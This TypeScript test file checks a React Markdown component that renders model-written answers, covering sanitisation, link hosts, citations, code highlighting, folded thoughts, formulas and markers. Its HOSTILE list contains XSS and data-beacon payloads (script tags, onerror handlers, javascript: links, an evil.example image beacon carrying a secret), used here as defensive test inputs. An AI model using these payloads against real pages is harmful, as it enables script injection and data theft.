import { render, screen, waitFor } from '@testing-library/react'
import { userEvent } from '@testing-library/user-event'
import fc from 'fast-check'
import { expect, test, vi } from 'vitest'
import type { Found, Wanted } from './markdown/colours.ts'
import { highlight } from './markdown/highlight.ts'
import { offsetOf } from './markdown/offset.ts'
import { Markdown, type MarkdownProps } from './Markdown.tsx'

/** jsdom has no workers: what theirs says of the code is said here. */
class Here {
  onmessage: (event: { data: Found }) => void = () => undefined
  postMessage({ id, code, language }: Wanted): void {
    queueMicrotask(() => this.onmessage({ data: { id, pieces: highlight(code, language) } }))
  }
}
vi.stubGlobal('Worker', Here)

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![beacon](https://evil.example/p.png?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><style>@import "https://evil.example/a.css"</style></svg>',
  '<form action="https://evil.example"><input name=q></form>',
  '[x](https://good.example"onmouseover="alert(1))',
  '![a](https://e.example/a.png "onload=alert(1)")',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object>',
  '[rel](/api/session)',
  '[hash](#x)',
  '[odd](//evil.example/x)',
  '<think><img src=x onerror=alert(1)></think>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| <b onclick=x> | a |\n| - | - |\n| ![i](https://e.example/i.gif) | [j](javascript:1) |',
  '\u202e[txt](https://evil.example)',
]
const ALLOWED =
  'a blockquote br button code del details div em h3 h4 h5 h6 hr input li ol p path pre section span strong summary sup svg table tbody td th thead tr ul'.split(
    ' ',
  )

test('nothing that a model writes can run, load or lead astray', () => {
  const texts = fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme' })), {
    minLength: 1,
    maxLength: 6,
  })
  fc.assert(
    fc.property(texts, fc.constantFrom('', '\n', '\n\n', ' '), fc.boolean(), (parts, glue, live) => {
      const { container, unmount } = draw({ text: parts.join(glue), live })
      for (const element of container.querySelectorAll('.answer *')) {
        expect(ALLOWED).toContain(element.tagName.toLowerCase())
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^action|^id$|^name$|xlink|^background$|^ping$/)
          if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/[^/]|mailto:)/)
        }
      }
      unmount()
    }),
    { numRuns: 150, examples: HOSTILE.map((text): [string[], string, boolean] => [[text], '', false]) },
  )
})

test('raw HTML is shown as the text that it is', () => {
  draw({ text: 'Use <b>this</b>:\n\n<div>x</div>' })
  expect(document.querySelector('.answer')?.textContent).toContain('<div>x</div>')
})

test('a link says where it leads when its words hide it', () => {
  draw({ text: '[the manual](https://docs.example/a) https://docs.example/b [docs.example](https://docs.example)' })
  const [hidden, shown, named] = screen.getAllByRole('link')
  expect(hidden?.textContent).toBe('the manual (docs.example)')
  expect(shown?.textContent).toBe('https://docs.example/b')
  expect(named?.textContent).toBe('docs.example')
  for (const link of [hidden, shown]) {
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(link?.getAttribute('target')).toBe('_blank')
  }
})

test('a link that dresses up as another host shows its own', () => {
  draw({ text: '[https://bank.example](https://evil.example)' })
  expect(screen.getByRole('link').textContent).toBe('https://bank.example (evil.example)')
})

test('an image is a link with its description and host', () => {
  draw({ text: '![a lamp](https://pictures.example/lamp.png)' })
  expect(screen.getByRole('link').textContent).toBe('Image: a lamppictures.example')
  expect(document.querySelector('img')).toBeNull()
})

test('an image within a link does not put a link into a link', () => {
  const { container } = draw({ text: '[![plan](https://e.example/plan.png)](https://e.example/page)' })
  expect([...container.querySelectorAll('a')].map(({ href }) => href)).toEqual(['https://e.example/page'])
  expect(container.textContent).toContain('plan')
})

test('a citation is a button only where there is such a source', async () => {
  const chosen: number[] = []
  draw({
    text: 'One [1], two [2][3], `[1]` in code, [1](https://a.example).',
    citations: [1, 3],
    onCite: (n) => chosen.push(n),
  })
  const buttons = screen.getAllByRole('button')
  expect(buttons.map((button) => button.textContent)).toEqual(['1', '3'])
  await userEvent.click(screen.getByRole('button', { name: 'Source 3' }))
  expect(chosen).toEqual([3])
  expect(document.querySelector('.answer')?.textContent).toContain('two [2]')
})

test.each([
  ['**（注）**后文', '<strong>（注）</strong>后文'],
  ['文字**“引”**文字', '<strong>“引”</strong>'],
  ['10~20 元，30~40 元', '10~20 元，30~40 元'],
  ['见 https://a.example/x。后文', '>https://a.example/x</a>。后文'],
])('text without blanks between words reads right: %s', (text, html) => {
  draw({ text })
  expect(document.querySelector('.answer')?.innerHTML.replace(/ data-(?:at|after)="\d+"/g, '')).toContain(html)
})

test('the end mark stands behind the last word, in a list as in a code block', () => {
  const end = <i>end</i>
  const { rerender } = draw({ text: 'words\n\n- a\n- last', live: true, end })
  expect(document.querySelector('li:last-child i')).not.toBeNull()
  rerender(page({ text: '```js\nlet a', live: true, end }))
  expect(document.querySelector('pre code')?.textContent).toBe('let aend')
  rerender(page({ text: 'words\n\n', live: true, end }))
  expect(document.querySelectorAll('i')).toHaveLength(1)
})

test('code gets its colours when it is whole, and can be copied', async () => {
  const { rerender } = draw({ text: '```json\n{"a": 1', live: true, end: <i /> })
  rerender(page({ text: '```json\n{"a": 1}\n```\n', live: false }))
  await waitFor(() => expect(document.querySelector('pre [data-scope="attr"]')?.textContent).toBe('"a"'))
  expect(document.querySelector('pre')?.textContent).toBe('{"a": 1}')
  expect(screen.getByRole('button', { name: 'Copy' })).toBeDefined()
})

test('thoughts are folded', () => {
  draw({ text: '<think>\nhm\n</think>\n\nThe **answer**.' })
  expect(document.querySelector('details')?.open).toBe(false)
  expect(document.querySelector('details')?.textContent).toBe('Thoughtshm')
  expect(document.querySelector('p strong')?.textContent).toBe('answer')
})

test('a finished block is not drawn again while the text grows', () => {
  const { rerender } = draw({ text: 'first\n\nsecond words that are open', live: true })
  const first = document.querySelector('.answer p')
  rerender(page({ text: 'first\n\nsecond words that are open and grow\n\nthird one comes here', live: true }))
  expect(document.querySelector('.answer p')).toBe(first)
  expect(document.querySelectorAll('.answer p')).toHaveLength(3)
})

test('a reference that is defined at the end leads where it should', () => {
  draw({ text: 'See [the manual][m].\n\nMore.\n\n[m]: https://docs.example/\n' })
  expect(screen.getByRole('link').getAttribute('href')).toBe('https://docs.example/')
})

const marked = () => [...document.querySelectorAll('mark')].map((one) => one.firstChild?.textContent)
const rich =
  'One **two** three.\n\n> a\n> b\n\n- item \\* x\n\n| a | b |\n| - | - |\n| gap | below 0.35 mm |\n\n```js\nlet x = 1\n```\n\nlast &amp; **（注）**后文 [1]'

test.each([
  ['two', ['two']],
  ['One **two** th', ['One ', 'two', ' th']],
  ['b\n\n- item', ['b', 'item']],
  [' | below 0.35', ['below 0.35']],
  ['x = 1', ['x = 1']],
  ['注）**后', ['注）', '后']],
  ['```js\n', []],
  ['| - | - |\n', []],
])('words of the text have the marker wherever they are drawn: %s', (words, drawn) => {
  const from = rich.indexOf(words)
  draw({ text: rich, mark: { seq: 41, from, to: from + words.length } })
  expect(marked()).toEqual(drawn)
  expect(document.querySelectorAll('mark sup')).toHaveLength(drawn.length > 0 ? 1 : 0)
})

test.each([
  '\\(a_1 * b_1 = c_{2}\\)',
  '\\[\\frac{a}{b} * x_1^* < y\\]',
  '$$\\sum_{i=1}^n x_i \\\\ - [a](b) & 1$$',
  '$E = m_0 * c^2 * d_0$',
])('a formula is shown as the text that it is, and its words are found: %s', (formula) => {
  const text = `So ${formula} holds, *not* \`${formula.slice(0, 3)}\`.`
  draw({ text, mark: { seq: 3, from: text.indexOf('holds'), to: text.indexOf('holds') + 5 } })
  expect(document.querySelector('p')?.textContent).toContain(`So ${formula} holds`)
  expect(marked()).toEqual(['holds'])
  expect(document.querySelectorAll('p em')).toHaveLength(1)
})

test.each([
  '~~~\n$a_1$\n~~~',
  '    $a_1$',
  '`$a_1$`',
  '```\n\\(a_1\\)',
  '<b title="$a_1$">',
  'https://a.example/$a_1$',
])('code, tags and addresses hold no formulas: %s', (text) => {
  draw({ text })
  expect(document.querySelector('.answer')?.textContent).toMatch(/[$(]a_1/)
  expect(document.querySelector('.answer')?.textContent).not.toContain('\\_')
})

test('prices are no formulas', () => {
  draw({ text: 'It costs $5 or **$6**, not $7_000 = much.' })
  expect(document.querySelector('p')?.textContent).toBe('It costs $5 or $6, not $7_000 = much.')
  expect(document.querySelectorAll('strong')).toHaveLength(1)
})

test('only the block with the marker is drawn again', () => {
  const text = 'first words\n\nsecond words\n\nthird words'
  const { rerender } = draw({ text })
  const [first, second] = document.querySelectorAll('.answer p')
  rerender(page({ text, mark: { seq: 2, from: 13, to: 19 } }))
  expect(marked()).toEqual(['second'])
  rerender(page({ text }))
  expect([...document.querySelectorAll('.answer p')].slice(0, 2)).toEqual([first, second])
  expect(first?.isConnected).toBe(true)
})

test('what one points at is found in the text', () => {
  draw({ text: rich })
  const walker = document.createTreeWalker(document.querySelector('.answer') as Element, NodeFilter.SHOW_TEXT)
  const found: Record<string, number | null> = {}
  while (walker.nextNode()) {
    const words = walker.currentNode.textContent ?? ''
    if (words.trim() !== '') found[words] = offsetOf(walker.currentNode, 0)
  }
  for (const words of ['One ', 'two', ' three.', 'gap', 'below 0.35 mm', '（注）'])
    expect([words, found[words]]).toEqual([words, rich.indexOf(words)])
  expect(found['let x = 1\n']).toBe(rich.indexOf('let x'))
})

const page = (props: Partial<MarkdownProps>) => (
  <div className="answer">
    <Markdown text="" live={false} {...props} />
  </div>
)
const draw = (props: Partial<MarkdownProps>) => render(page(props))
